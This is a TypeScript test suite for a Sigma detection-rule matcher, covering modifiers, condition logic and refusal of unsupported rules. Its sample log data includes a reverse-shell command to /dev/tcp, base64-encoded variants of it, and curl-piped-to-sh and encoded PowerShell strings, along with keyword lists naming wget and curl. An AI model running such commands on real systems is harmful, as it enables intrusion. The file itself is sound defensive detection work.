import { describe, expect, it } from 'vitest';
import { matcher, parse } from './helpers.js';

describe('Sigma selections and values', () => {
  it('a map is AND, a list of values is OR, matching is case-insensitive', () => {
    const m = matcher(`sel:\n    process.name: sshd\n    user.name:\n        - root\n        - admin\ncondition: sel`);
    expect(m({ 'process.name': 'SSHD', 'user.name': 'Admin' })).toBe(true);
    expect(m({ 'process.name': 'sshd', 'user.name': 'guest' })).toBe(false);
    expect(m({ 'user.name': 'root' })).toBe(false);
  });

  it('a list of maps is OR of the maps', () => {
    const m = matcher(`sel:\n    - a: x\n      b: y\n    - c: z\ncondition: sel`);
    expect(m({ a: 'x', b: 'y' })).toBe(true);
    expect(m({ c: 'z' })).toBe(true);
    expect(m({ a: 'x', c: 'q' })).toBe(false);
  });

  it('keywords search the message anywhere; a keyword map with |all needs every keyword', () => {
    const m = matcher(`keywords:\n    - 'wget http'\n    - '/dev/tcp/'\ncondition: keywords`);
    expect(m({ message: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' })).toBe(true);
    expect(m({ message: 'nothing to see' })).toBe(false);
    expect(m({ 'event.original': 'x WGET HTTP://evil' })).toBe(true);
    const all = matcher(`kw:\n    '|all':\n        - truncate\n        - '-s'\ncondition: kw`);
    expect(all({ message: 'truncate -s 10M file' })).toBe(true);
    expect(all({ message: 'truncate file' })).toBe(false);
  });

  it('wildcards * and ?, and backslash escapes', () => {
    const m = matcher(`sel:\n    f: 'a*c?e'\ncondition: sel`);
    expect(m({ f: 'abbbcde' })).toBe(true);
    expect(m({ f: 'ace' })).toBe(false);
    expect(m({ f: 'xabcde' })).toBe(false);
    const lit = matcher(`sel:\n    f: 'what\\*'\ncondition: sel`);
    expect(lit({ f: 'what*' })).toBe(true);
    expect(lit({ f: 'whatever' })).toBe(false);
    const q = matcher(`sel:\n    f: 'really\\?'\ncondition: sel`);
    expect(q({ f: 'really?' })).toBe(true);
    expect(q({ f: 'reallyx' })).toBe(false);
    const bs = matcher(`sel:\n    f: 'C:\\Windows\\*'\ncondition: sel`);
    // "\W" keeps its backslash, "\*" is a literal star: the pattern is C:\Windows* with no wildcard.
    expect(bs({ f: 'C:\\Windows*' })).toBe(true);
    expect(bs({ f: 'C:\\Windows\\System32' })).toBe(false);
  });

  it('contains, startswith, endswith', () => {
    const c = matcher(`sel:\n    f|contains: mid\ncondition: sel`);
    const s = matcher(`sel:\n    f|startswith: pre\ncondition: sel`);
    const e = matcher(`sel:\n    f|endswith: end\ncondition: sel`);
    expect([c({ f: 'a MID b' }), c({ f: 'nothing' })]).toEqual([true, false]);
    expect([s({ f: 'prefix' }), s({ f: 'a prefix' })]).toEqual([true, false]);
    expect([e({ f: 'the end' }), e({ f: 'endless' })]).toEqual([true, false]);
    // Lists of plain literals are merged into one predicate per field: same answers.
    const sl = matcher(`sel:\n    f|startswith:\n        - 'Failed '\n        - 'Invalid user'\ncondition: sel`);
    expect([sl({ f: 'failed password' }), sl({ f: 'INVALID USER x' }), sl({ f: 'x Failed ' })]).toEqual([true, true, false]);
    const el = matcher(`sel:\n    f|endswith:\n        - /bash\n        - /sh\ncondition: sel`);
    expect([el({ f: '/bin/BASH' }), el({ f: '/bin/sh' }), el({ f: '/bin/shx' })]).toEqual([true, true, false]);
    const cl = matcher(`sel:\n    f|contains:\n        - wget\n        - curl\ncondition: sel`);
    expect([cl({ f: 'x CURL y' }), cl({ f: 'xwgety' }), cl({ f: 'fetch' }), cl({ f: '' })]).toEqual([true, true, false, false]);
  });

  it('array fields match when any element matches', () => {
    const m = matcher(`sel:\n    process.args|contains: wget\ncondition: sel`);
    expect(m({ 'process.args': ['bash', '-c', 'WGET http://x'] })).toBe(true);
    expect(m({ 'process.args': ['bash', '-c', 'ls'] })).toBe(false);
  });

  it('all turns a value list into AND', () => {
    const m = matcher(`sel:\n    f|contains|all:\n        - curl\n        - '| sh'\ncondition: sel`);
    expect(m({ f: 'curl http://x | sh' })).toBe(true);
    expect(m({ f: 'curl http://x' })).toBe(false);
  });

  it('cased makes matching case-sensitive', () => {
    const m = matcher(`sel:\n    f|cased: Admin\ncondition: sel`);
    expect(m({ f: 'Admin' })).toBe(true);
    expect(m({ f: 'admin' })).toBe(false);
  });

  it('re is case-sensitive and unanchored by default, with i/m/s flags', () => {
    const m = matcher(`sel:\n    f|re: 'ab+c'\ncondition: sel`);
    expect(m({ f: 'xxabbbcxx' })).toBe(true);
    expect(m({ f: 'ABC' })).toBe(false);
    const i = matcher(`sel:\n    f|re|i: '^abc$'\ncondition: sel`);
    expect(i({ f: 'ABC' })).toBe(true);
    const ml = matcher(`sel:\n    f|re|m: '^second$'\ncondition: sel`);
    expect(ml({ f: 'first\nsecond' })).toBe(true);
    expect(matcher(`sel:\n    f|re: '^second$'\ncondition: sel`)({ f: 'first\nsecond' })).toBe(false);
    const s = matcher(`sel:\n    f|re|s: 'a.b'\ncondition: sel`);
    expect(s({ f: 'a\nb' })).toBe(true);
    expect(matcher(`sel:\n    f|re: 'a.b'\ncondition: sel`)({ f: 'a\nb' })).toBe(false);
  });

  it('cidr for IPv4 and IPv6', () => {
    const m = matcher(`sel:\n    source.ip|cidr:\n        - 10.0.0.0/8\n        - '2001:db8::/32'\ncondition: sel`);
    expect(m({ 'source.ip': '10.200.3.4' })).toBe(true);
    expect(m({ 'source.ip': '11.0.0.1' })).toBe(false);
    expect(m({ 'source.ip': '2001:db8:1::5' })).toBe(true);
    expect(m({ 'source.ip': '2001:db9::5' })).toBe(false);
    expect(m({ 'source.ip': 'not-an-ip' })).toBe(false);
  });

  it('exists and null', () => {
    const ex = matcher(`sel:\n    user.name|exists: true\ncondition: sel`);
    const nex = matcher(`sel:\n    user.name|exists: false\ncondition: sel`);
    const nul = matcher(`sel:\n    user.name: null\ncondition: sel`);
    expect([ex({ 'user.name': 'x' }), ex({})]).toEqual([true, false]);
    expect([nex({ 'user.name': 'x' }), nex({})]).toEqual([false, true]);
    // Sigma keeps null (absent) and '' (empty) apart.
    expect([nul({ 'user.name': '' }), nul({}), nul({ 'user.name': 'x' })]).toEqual([false, true, false]);
  });

  it('lt, lte, gt, gte compare numbers, also numeric strings', () => {
    const lt = matcher(`sel:\n    n|lt: 10\ncondition: sel`);
    const lte = matcher(`sel:\n    n|lte: 10\ncondition: sel`);
    const gt = matcher(`sel:\n    n|gt: 10\ncondition: sel`);
    const gte = matcher(`sel:\n    n|gte: 10\ncondition: sel`);
    expect([lt({ n: 9 }), lt({ n: 10 }), lte({ n: '10' }), lte({ n: 11 })]).toEqual([true, false, true, false]);
    expect([gt({ n: 11 }), gt({ n: 10 }), gte({ n: '10' }), gte({ n: 9 }), gte({ n: 'abc' })]).toEqual([true, false, true, false, false]);
  });

  it('numbers match their string form', () => {
    const m = matcher(`sel:\n    auditd.a0: 4\ncondition: sel`);
    expect([m({ 'auditd.a0': '4' }), m({ 'auditd.a0': 4 }), m({ 'auditd.a0': '44' })]).toEqual([true, true, false]);
  });

  it('base64 and base64offset match encoded text', () => {
    const b = matcher(`sel:\n    f|base64: 'http://'\ncondition: sel`);
    expect(b({ f: Buffer.from('http://').toString('base64') })).toBe(true);
    expect(b({ f: 'http://' })).toBe(false);
    const o = matcher(`sel:\n    f|base64offset|contains: 'bash -i'\ncondition: sel`);
    for (const prefix of ['', 'x', 'xy', 'echo ']) {
      expect(o({ f: Buffer.from(`${prefix}bash -i >& /dev/tcp/1.2.3.4/80`).toString('base64') })).toBe(true);
    }
    expect(o({ f: Buffer.from('sh -c ls').toString('base64') })).toBe(false);
  });

  it('windash accepts -, / and unicode dashes for options', () => {
    const m = matcher(`sel:\n    f|windash|contains: ' -enc '\ncondition: sel`);
    expect(m({ f: 'powershell -enc AAA' })).toBe(true);
    expect(m({ f: 'powershell /enc AAA' })).toBe(true);
    expect(m({ f: 'powershell \u2013enc AAA' })).toBe(true);
    expect(m({ f: 'powershell enc AAA' })).toBe(false);
  });
});

describe('Sigma conditions', () => {
  const base = `a:\n    f: a\nb:\n    g: b\nc:\n    h: c\n`;
  const rec = (a: boolean, b: boolean, c: boolean) => ({ ...(a ? { f: 'a' } : {}), ...(b ? { g: 'b' } : {}), ...(c ? { h: 'c' } : {}) });
  const truth = (cond: string) => {
    const m = matcher(`${base}condition: ${cond}`);
    const out: string[] = [];
    for (const a of [false, true]) for (const b of [false, true]) for (const c of [false, true]) if (m(rec(a, b, c))) out.push(`${+a}${+b}${+c}`);
    return out;
  };

  it('and binds tighter than or', () => {
    expect(truth('a or b and c')).toEqual(truth('a or (b and c)'));
    expect(truth('a or b and c')).not.toEqual(truth('(a or b) and c'));
    expect(truth('(a or b) and c')).toEqual(['011', '101', '111']);
  });

  it('not binds tighter than and', () => {
    expect(truth('not a and b')).toEqual(['010', '011']);
    expect(truth('not (a and b)')).toEqual(['000', '001', '010', '011', '100', '101']);
  });

  it('1 of / all of with patterns and them; identifiers starting with _ are not in them', () => {
    const sel = `sel_x:\n    f: x\nsel_y:\n    g: y\n_helper:\n    h: z\nother:\n    i: w\n`;
    const one = matcher(`${sel}condition: 1 of sel_*`);
    const all = matcher(`${sel}condition: all of sel_*`);
    expect([one({ f: 'x' }), one({ i: 'w' })]).toEqual([true, false]);
    expect([all({ f: 'x' }), all({ f: 'x', g: 'y' })]).toEqual([false, true]);
    const them = matcher(`${sel}condition: all of them`);
    expect(them({ f: 'x', g: 'y', i: 'w' })).toBe(true);
    const oneThem = matcher(`${sel}condition: 1 of them`);
    expect(oneThem({ h: 'z' })).toBe(false);
    expect(oneThem({ i: 'w' })).toBe(true);
  });

  it('a list of conditions is their OR', () => {
    const m = matcher(`a:\n    f: a\nb:\n    g: b\ncondition:\n    - a\n    - b`);
    expect([m({ f: 'a' }), m({ g: 'b' }), m({})]).toEqual([true, true, false]);
  });
});

describe('refused rules name the file, the feature and the line', () => {
  const rule = (detection: string, extra = '') => `title: t\nid: x\n${extra}logsource:\n    product: linux\ndetection:\n${detection}\nlevel: low\n`;

  it('unknown and unsupported modifiers', () => {
    const r = parse(rule(`    sel:\n        f|utf16le|base64: x\n    condition: sel`), 'bad.yml');
    expect(r.rules).toHaveLength(0);
    expect(r.refusals[0]).toMatchObject({ file: 'bad.yml', feature: 'modifier utf16le', line: 7 });
    const u = parse(rule(`    sel:\n        f|frobnicate: x\n    condition: sel`));
    expect(u.refusals[0]).toMatchObject({ feature: 'modifier frobnicate', line: 7 });
  });

  it('aggregations, timeframe, undefined identifiers, bad regex, unknown logsource', () => {
    expect(parse(rule(`    sel:\n        f: x\n    condition: sel | count() by host > 5`)).refusals[0]).toMatchObject({ feature: 'aggregation', line: 8 });
    expect(parse(rule(`    sel:\n        f: x\n    timeframe: 5m\n    condition: sel`)).refusals[0]).toMatchObject({ feature: 'timeframe', line: 8 });
    const undef = parse(rule(`    sel:\n        f: x\n    condition: sel and nope`)).refusals[0]!;
    expect(undef).toMatchObject({ feature: 'condition syntax', line: 8 });
    expect(undef.message).toContain('"nope"');
    expect(parse(rule(`    sel:\n        f|re: '(unclosed'\n    condition: sel`)).refusals[0]).toMatchObject({ feature: 'modifier re', line: 7 });
    // windows/process_creation has a built-in mapping since core/logsources; a product without one is still refused.
    const win = parse(`title: t\nid: x\nlogsource:\n    product: solaris\n    category: process_creation\ndetection:\n    sel:\n        Image: x\n    condition: sel\n`);
    expect(win.refusals[0]).toMatchObject({ feature: 'logsource', line: 3 });
    expect(win.refusals[0]!.message).toContain('detection.logsources');
    expect(parse(rule(`    sel:\n        f: x\n    condition: 2 of sel`)).refusals[0]).toMatchObject({ feature: 'condition quantifier' });
  });

  it('a YAML error is a refusal with its line, and other rules of the folder still load', () => {
    const r = parse('title: t\ndetection: [unclosed\n');
    expect(r.refusals[0]).toMatchObject({ feature: 'yaml' });
    expect(r.refusals[0]!.line).toBeGreaterThan(0);
  });
});
